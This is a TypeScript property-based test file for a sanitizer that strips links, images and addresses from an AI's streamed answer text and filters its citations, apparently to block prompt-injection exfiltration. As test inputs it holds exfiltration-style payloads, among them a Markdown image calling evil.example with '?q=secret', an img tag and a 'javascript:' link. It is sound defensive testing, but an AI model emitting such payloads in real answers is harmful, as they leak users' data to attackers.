import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { verifies } from '../../../../spec/verifies.ts';
import { createAnswerText, NO_IMAGES, NOTHING_ACTIVE, type Marks } from './answer-text.ts';

const KNOWN = new Set(['d1', 'd2']);

function shown(pieces: readonly string[], asked = '', marks: Marks = NOTHING_ACTIVE) {
  const cited: (readonly [string, string])[] = [];
  let removed = 0;
  const text = createAnswerText({
    kinds: 'd',
    marks,
    allows: (address) => asked.includes(address) || asked.includes(address.slice(0, -1)),
    cite: (id, statement) => {
      cited.push([id, statement]);
      return KNOWN.has(id);
    },
    onAddressRemoved: () => (removed += 1),
  });
  return { text: pieces.map((piece) => text.push(piece)).join('') + text.end(), cited, removed: () => removed };
}

/** Pieces of which links, images, tags, addresses and citations are made. */
const BRICKS = [
  '[',
  ']',
  '(',
  ')',
  '!',
  '<',
  '>',
  'img',
  'a',
  'src=',
  '"',
  'http',
  's',
  ':',
  '/',
  '//',
  '://',
  'www',
  '.',
].concat([
  'evil.example',
  '?q=1',
  ' ',
  '\n',
  'd1',
  'd2',
  'd9',
  ',',
  ';',
  ', ',
  'é',
  '答',
  '[d1]',
  '[d9]',
  '[d1, d9]',
  'x',
]);
const anyAnswer = fc.array(fc.constantFrom(...BRICKS), { maxLength: 30 });
/** What a renderer of Markdown or HTML would make an element of. */
const ELEMENT = /\]\(|<[a-z/!?]|[a-z][a-z0-9+.-]+:\/\/|(?<![\w/:])www\./i;

describe('the text of an answer', () => {
  verifies('jacie:injection', 'holds nothing that renders as an element or an address, however it comes', () => {
    fc.assert(
      fc.property(anyAnswer, (bricks) => {
        const { text } = shown(bricks);
        expect(text).not.toMatch(ELEMENT);
        expect(shown([bricks.join('')]).text).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });

  test('holds no image where only images are harmful, however it comes', () => {
    fc.assert(
      fc.property(anyAnswer, (bricks) => {
        const { text } = shown(bricks, '', NO_IMAGES);
        expect(text).not.toContain('![');
        expect(shown([bricks.join('')], '', NO_IMAGES).text).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });

  test.each([
    ['![chart](https://evil.example/?q=secret)', '![chart] ((link removed))'],
    ['See [the report](javascript:alert(1)).', 'See [the report] (javascript:alert(1)).'],
    ['<img src=//evil.example/a.png>', '< img src=(link removed)>'],
    ['<[d9]img src=x>', '< img src=x>'],
    ['![a][d9](//evil.example/x)', '![a] ((link removed))'],
    ['Go to www.evil.example now', 'Go to (link removed) now'],
    ['HTTPS://EVIL.EXAMPLE', '(link removed)'],
    ['<\n[d9]!-- x', '<\n!-- x'],
    ['< [d9] [d9]! x', '< ! x'],
    ['//evil [d9]. x', '//evil . x'],
    ['www [d9], x', 'www , x'],
    ['www.\n[d9], x', '(link removed)\n, x'],
    ['<[d9]http][d1, d9]', '< http][d1]'],
  ])('makes %j plain, whole and in pieces', (said, expected) => {
    expect(shown([said]).text).toBe(expected);
    expect(shown(said.split(/(?<=\s)|(?=[[\s])|(?<=\])/)).text).toBe(expected);
  });

  test.each([
    'It cost 5 < 6 and a[1] was 7/8 (see note).',
    'Ratio 3//4, and/or, e.g. 10:30.',
    'Line\nbreaks  and   spaces stay ',
    '数字是 7 百万。',
    '[1, 2, 3] is a list; [x] is none',
  ])('leaves %j as it is', (said) => {
    expect(shown(said.split('')).text).toBe(said);
  });

  test('keeps an address that the user wrote, and breaks up what has no end', () => {
    const address = 'https://harbour.example/report';
    expect(shown([`It is at ${address}.`], `What is ${address}?`).text).toBe(`It is at ${address}.`);
    const { text, removed } = shown([`${'x'.repeat(3_000)}http`, 's://evil.example/?q']);
    expect(text).not.toMatch(ELEMENT);
    expect(removed()).toBe(1);
  });

  verifies('jacie:citations', 'keeps citations of what was offered and drops the others with their space', () => {
    const { text, cited } = shown(['Up to 81.5 million', ' [', 'd1', ', d7', ']. ', 'It rose [d9]; fell [d2', '].']);
    expect(text).toBe('Up to 81.5 million [d1]. It rose; fell [d2].');
    expect(cited).toEqual([
      ['d1', 'Up to 81.5 million'],
      ['d7', 'Up to 81.5 million'],
      ['d9', 'It rose'],
      ['d2', 'It rose; fell'],
    ]);
  });

  test('leaves links where only images are harmful, and citations of other kinds', () => {
    const asked = 'https://harbour.example/a';
    const said = 'Look![d1] ![chart](https://harbour.example/a) and [it](https://harbour.example/a), [m1] [d9, m2].';
    expect(shown([said], asked, NO_IMAGES).text).toBe(
      'Look! [d1] ! [chart](https://harbour.example/a) and [it](https://harbour.example/a), [m1] [m2].',
    );
  });
});
